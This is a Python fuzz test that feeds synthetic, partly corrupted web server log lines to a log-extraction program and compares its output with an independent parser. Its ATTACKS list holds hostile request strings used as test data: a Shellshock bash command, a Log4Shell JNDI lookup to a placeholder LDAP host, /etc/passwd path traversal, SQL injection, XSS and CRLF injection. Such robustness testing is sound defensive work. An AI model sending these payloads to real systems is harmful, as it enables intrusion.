#!/usr/bin/env python3
"""differential.py ORDERTAIL [SEED]: for every built-in log pattern, lines as its server writes them of
hostile requests, some of them spoilt, are read by the program and by an independent reader of the
same bytes; they must agree on every line and every field, and on the lines that are not spoilt with
what the requests were. ORDERTAIL_LOG_LINES says how many lines to a pattern (default 2,000)."""

import os
import pathlib
import re
import sys
import tempfile
import time
from datetime import datetime, timedelta, timezone
from random import Random
from urllib.parse import unquote_to_bytes

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent / "carts"))
from formats import FORMATS, TOKEN, Cut, Json, Table, clf_read, clf_time
from program import Program

LINES = int(os.environ.get("ORDERTAIL_LOG_LINES", "2000"))
BLANKS = b" \t\r\n"

ATTACKS = [b"() { :;}; /bin/bash -c id", b"${jndi:ldap://192.0.2.1/a}", b"../../../../etc/passwd", b"' OR 1=1 --",
           b"<script>alert(1)</script>", b"\x16\x03\x01\x02\x00\x01", b"%00%0d%0aSet-Cookie:x", b'" 200 12 "-" "-"',
           b'\\" 200 12 \\"-\\" \\"', b"#Fields: date time", b"\\", b'\\"', b'"', b"-", b"|}{#22", b"\\x22", b"%2522"]
ASCII = b"abcXYZ019-_./?&=%+;:,~ \t\"\\'[](){}<>|#\x00\x01\x1f\x7f\n\r"
ALPHABET = [bytes([c]) for c in ASCII] * 4 + ["\u00e4".encode(), "\u20ac".encode()] * 4 + [b"\xff"]


def hostile(random, without=b""):
    """Bytes that a visitor may send; those in `without` cannot get into the log raw."""
    kind = random.random()
    if kind < 0.2:
        value = random.choice(ATTACKS)
    elif kind < 0.202:
        value = b"".join(random.choices(ALPHABET, k=64)) * 128
    else:
        value = b"".join(random.choices(ALPHABET, k=random.randrange(24)))
    return bytes(c for c in value if c not in without)


def target(random, without):
    path = random.choice([b"/", b"/checkout/success", b"/a/" + hostile(random, without + b" ?")])
    if random.random() < 0.2:
        return path, b""
    query = random.choice([b"order=1001&mail=ann%40example.com", b"ORDER=%2523&order=a+b%2Bc&mail=a+b%40x", b"order",
                           b"__hstc=1." + token(random) + b".1.2.3.4&order=7", hostile(random, without + b" "),
                           b"order=" + hostile(random, without + b" ")])
    return path, query


def token(random):
    return b"%032x" % random.getrandbits(128)


def cookie(random, without):
    parts = [b"a=" + hostile(random, without + b";"), b"hubspotutk=" + token(random), b"hubspotutk=short",
             b"__hstc=1." + token(random) + b".1.2.3.4", b"xhubspotutk=" + token(random), b"%20hubspotutk=" + token(random)]
    random.shuffle(parts)
    return b"; ".join(parts[:random.randrange(4)])


def request_of(random, without):
    """What a server may come to know of one request."""
    path, query = target(random, without)
    whole = path + (b"?" + query if query else b"")
    method = random.choice([b"GET", b"POST", b"HEAD", hostile(random, without + b" ")])
    line = random.choice([method + b" " + whole + b" HTTP/1.1"] * 5 + [b"-", b"", hostile(random, without)])
    host = random.choice([b"192.0.2.7", b"2001:db8::7", b"198.51.100.250"])
    when = datetime(2025, 1, 1, tzinfo=timezone.utc) + timedelta(seconds=random.randrange(30_000_000))
    referer = random.choice([b"", b"https://example.com/?order=5&__hstc=1." + token(random) + b".1.2.3.4#x",
                             hostile(random, without)])
    return {"ip": host, "when": when, "method": method, "path": path, "query": query, "line": line, "target": whole,
            "status": random.choice([b"200"] * 6 + [b"302", b"404", b"000", b"-"]), "referer": referer,
            "agent": hostile(random, without), "cookie": cookie(random, without), "user": random.choice([b"-", b"ann roe"]),
            "token": random.choice([b"", token(random), b"short"])}


NAMED = {"ip": "%h $remote_addr c-ip ClientHost request.remote_ip", "line": "%r $request request",
         "status": "%s $status status sc-status DownstreamStatus", "user": "%u $remote_user user",
         "referer": "%{Referer}i $http_referer referer cs(Referer) request_Referer request.headers.Referer",
         "agent": "%{User-Agent}i $http_user_agent user_agent cs(User-Agent) request_User-Agent "
                  "request.headers.User-Agent",
         "cookie": "cs(Cookie) request_Cookie request.headers.Cookie", "token": "%{hubspotutk}C $cookie_hubspotutk",
         "target": "RequestPath request.uri", "path": "cs-uri-stem", "query": "cs-uri-query",
         "method": "cs-method RequestMethod request.method"}
FIELDS = {column: what for what, columns in NAMED.items() for column in columns.split()}


def values_of(form, request, random):
    """The columns of a line about this request."""
    values = {}
    for column in form.columns:
        what = FIELDS.get(column)
        if what == "ip" or column != "client":
            values[column] = request[what] if what else b"7"
        else:
            values[column] = request["ip"] + (b":4242" if form.pattern != "traefik-clf" else b"")
    if form.pattern == "haproxy-http":
        values["request_cookie"] = random.choice([b"-", b"hubspotutk=" + token(random)])
        values["captured"] = random.choice([[], [b"a", b"b"], [request["agent"], request["cookie"], request["referer"]],
                                            [b"|hubspotutk=" + token(random), token(random), request["cookie"]]])
    if isinstance(form, Cut):
        for column in form.columns:
            if column in ("%t", "$time_local") or (column == "time" and form.pattern == "traefik-clf"):
                values[column] = clf_time(request["when"])
            elif column == "time" and form.pattern == "haproxy-http":
                values[column] = clf_time(request["when"])[:-6] + b".123"
            elif column == "time":
                values[column] = f"{request['when']:%Y-%m-%dT%H:%M:%S}.123456Z".encode()
    elif isinstance(form, Table):
        values["date"] = f"{request['when']:%Y-%m-%d}".encode()
        values["time"] = f"{request['when']:%H:%M:%S}".encode()
    else:
        values[form.time] = (f"{request['when']:%Y-%m-%dT%H:%M:%S}.5Z" if form.read_time == "iso"
                             else f"{request['when'].timestamp():.4f}").encode()
    return values


def logged(value):
    value = value.strip(BLANKS)
    return b"" if value == b"-" else value


def without_controls(value):
    """As an event's texts are: of ASCII's control characters they keep only tabs and line ends."""
    return bytes(c for c in value if c >= 32 and c != 127 or c in b"\t\r\n")


def parameter(query, name, times):
    for pair in query.split(b"&"):
        key, _, value = pair.partition(b"=")
        for last in range(times - 1, -1, -1):
            key, value = (unquote_to_bytes(each.replace(b"+", b" ") if last == 0 else each) for each in (key, value))
        if key == name:
            return value.strip(BLANKS)
    return b""


def query_of(form, values):
    if "cs-uri-query" in values:
        query = logged(values["cs-uri-query"])
        return query[1:] if query.startswith(b"?") else query
    whole = next((logged(values[c]) for c in ("RequestPath", "request.uri") if c in values), None)
    if whole is None:
        line = next(logged(values[c]) for c in ("%r", "$request", "request") if c in values)
        if b" " not in line:
            return b""
        whole = line.partition(b" ")[2].rpartition(b" HTTP/")
        whole = whole[0] if whole[1] else whole[2]
    return whole.partition(b"?")[2]


def token_in(value):
    """The token in what a column has, if it is one."""
    if value.startswith(b"{"):
        headers = [header.strip(BLANKS) for header in re.split(rb"[{|}]", value)]
        return next(filter(None, (token_in(header) for header in headers if b"=" in header)), b"")
    if re.fullmatch(TOKEN, value):
        return value
    if re.match(rb"/|https?://", value):
        query = value.partition(b"#")[0].partition(b"?")[2]
        found = re.search(rb"(?:^|&)(?:[ +]*)(?:%20)?(?:%2520)?__hstc=([^&]*)", query)
        return hstc(found[1]) if found else b""
    if b"=" not in value:
        return hstc(value)
    found = re.search(rb"(?:^|;)[ +]*(?:%20)?(?:%2520)?hubspotutk=([^;]*)", value)
    if found and re.fullmatch(TOKEN, found[1].strip(BLANKS)):
        return found[1].strip(BLANKS)
    found = re.search(rb"(?:^|;)[ +]*(?:%20)?(?:%2520)?__hstc=([^;]*)", value)
    return hstc(found[1]) if found else b""


def hstc(value):
    found = re.fullmatch(rb"[^.]*\.(" + TOKEN + rb")\.[^.]*\.[^.]*\.[^.]*\.[^.]*", value.strip(BLANKS))
    return found[1] if found else b""


def time_of(form, values):
    """Seconds since 1970, or None."""
    if isinstance(form, Table):
        text = b" ".join(filter(None, (logged(values["date"]), logged(values["time"]))))
        found = re.fullmatch(rb"(\d{4})-(\d\d?)-(\d\d?) +(\d\d?):(\d\d?):(\d\d?)(?:\.\d+)?", text)
    else:
        text = logged(values[form.time])
        if form.pattern == "caddy-json":
            found = re.fullmatch(rb"(\d{1,11})(?:\.\d+)?", text)
            return int(found[1]) if found else None
        if form.pattern == "haproxy-http":
            text = re.sub(rb"(\d)(?:\.\d+)?$", rb"\1 +0000", text)  # a blank before the fraction is no time
        if form.pattern == "haproxy-http" or form.time in ("%t", "$time_local") or form.pattern == "traefik-clf":
            found = clf_read(text)
            return int(found.timestamp()) if found else None
        found = re.fullmatch(rb"(\d{4})-(\d\d?)-(\d\d?)T(\d\d?):(\d\d?):(\d\d?)(?:\.\d+)?Z", text)
    try:
        return int(datetime(*map(int, found.groups()), tzinfo=timezone.utc).timestamp()) if found else None
    except ValueError:
        return None


def time_columns(form):
    return form.time if isinstance(form.time, tuple) else (form.time,)


def is_text(value):
    try:
        value.decode()
        return True
    except UnicodeDecodeError:
        return False


TOKENS = ["%{hubspotutk}C", "$cookie_hubspotutk", "cs(Cookie)", "request_cookie", "captured", "request_Cookie",
          "request.headers.Cookie", "query", "%{Referer}i", "$http_referer", "referer", "cs(Referer)",
          "request_Referer", "request.headers.Referer"]


def expected(form, values, shown):
    """What the program should make of a line: "no_match", "skipped", another reason, or the fields."""
    if values is None:
        return "no_match"
    status = next(logged(values[c]) for c in ("%s", "$status", "status", "sc-status", "DownstreamStatus") if c in values)
    if not status.startswith((b"2", b"3")):
        return "skipped"
    if not any(logged(values[column]) for column in time_columns(form)):
        return "missing_date"
    when = time_of(form, values)
    if when is None or not -2208988800 <= when < 32503680000:  # 1900 to 2999
        return "bad_date"
    query, times = query_of(form, values), 2 if form.pattern == "cloudfront" else 1
    fields = {f"c{i}": logged(values[column]) for i, column in enumerate(shown)}
    fields["order"] = parameter(query, b"order", times)
    fields["mail"] = parameter(query, b"mail", times)
    if not all(map(is_text, fields.values())):
        return "bad_encoding"
    fields = {key: without_controls(value).decode() for key, value in fields.items()}
    fields = {key: value for key, value in fields.items() if value}
    for column in TOKENS:
        if column == "query":
            found = token_in(parameter(query, b"__hstc", times))
        else:
            found = token_in(logged(values[column])) if column in values else b""
        if found:
            fields["utk"] = found.decode()
            break
    fields["occurred_at"] = f"{datetime.fromtimestamp(0, timezone.utc) + timedelta(seconds=when):%Y-%m-%dT%H:%M:%SZ}"
    return fields


def spoilt(random, line):
    for _ in range(random.randrange(1, 4)):
        at = random.randrange(len(line) + 1)
        line = random.choice([line[:at], line[:at] + random.choice(ATTACKS) + line[at:],
                              line[:at] + line[at + random.randrange(1, 4):],
                              line[:at] + random.choice([b" ", b"\t", b'"', b"\\", b"]", b"\xff"]) + line[at + 1:]])
    return line.replace(b"\n", b"")


def write_log(form, path, random, shown):
    """A log, and by line what should become of it."""
    meant = {}
    without = b'"\n' if form.pattern == "traefik-clf" else b""
    lines = []
    if isinstance(form, Table):
        form.named = None
    while len(lines) < LINES:
        if isinstance(form, Table) and (not lines or random.random() < 0.01):
            lines.append(form.naming_line(random))
            form.named = lines[-1].decode().split()[1:]
            continue
        values = values_of(form, request_of(random, without), random)
        line = form.write(values)
        is_good = random.random() < 0.7
        if not is_good:
            line = spoilt(random, line)
        if not line or line.startswith(b"#") and isinstance(form, Table):
            continue  # the latter is no request, whatever column comes first
        read = form.read(line.removesuffix(b"\r"))
        if is_good and isinstance(form, Cut):
            assert read == values, (form.pattern, line, read, values)
        lines.append(line)
        meant[len(lines)] = expected(form, read, shown)
    path.write_bytes(b"\n".join(lines) + b"\n")
    return meant, lines


def found_by(extracted, shown):
    found = {}
    keys = {f"c{i}" for i in range(len(shown))} | {"order", "mail"}
    for event in extracted.events:
        fields = {key: value for key, value in event.get("extra", {}).items() if key in keys}
        found[event["source"]["line"]] = fields | {k: event[k] for k in ("utk", "occurred_at") if k in event}
    for reject in extracted.rejects:
        if "reject" in reject:
            found[reject["source"]["line"]] = reject["reject"]
    return found


def check(program, directory, form, random):
    directory.mkdir()
    shown = form.columns
    meant, lines = write_log(form, directory / "access.log", random, shown)
    extra = {f"c{i}": column for i, column in enumerate(shown)} | {"order": "query:order", "mail": "query:mail"}
    source = {"files": "access.log", "pattern": form.pattern, "bots": "", "time_zone": "UTC",
              "registration": {"email": "constant:ann@example.com", "extra": extra}}
    extracted = program.extract(directory, [source])
    found = found_by(extracted, shown)
    wrong = [line for line in meant if found.get(line, "skipped") != meant[line]]
    for line in sorted(wrong, key=lambda line: len(lines[line - 1]))[:2]:
        print(f"WRONG: {form.pattern}, line {line}:\n{lines[line - 1][:400]!r}\nshould be {meant[line]!r}\n"
              f"and is  {found.get(line, 'skipped')!r}")
    rejects = sum(1 for each in found.values() if isinstance(each, str))
    print(f"{form.pattern}: {len(lines)} lines, {len(extracted.events)} events, {rejects} rejects, {len(wrong)} wrong")
    enough = len(extracted.events) > LINES // 10 and rejects > LINES // 100
    if not enough:
        print(f"WRONG: {form.pattern}: hardly anything was read\n{extracted.messages[:2000]}")
    return not wrong and enough


def main():
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else int(time.time())
    print(f"seed {seed}, {LINES} lines to a pattern")
    random = Random(seed)
    with tempfile.TemporaryDirectory() as name:
        directory = pathlib.Path(name)
        program = Program(sys.argv[1], directory)
        good = [check(program, directory / form.pattern, form, random) for form in FORMATS]
    return 0 if all(good) else 1


if __name__ == "__main__":
    sys.exit(main())
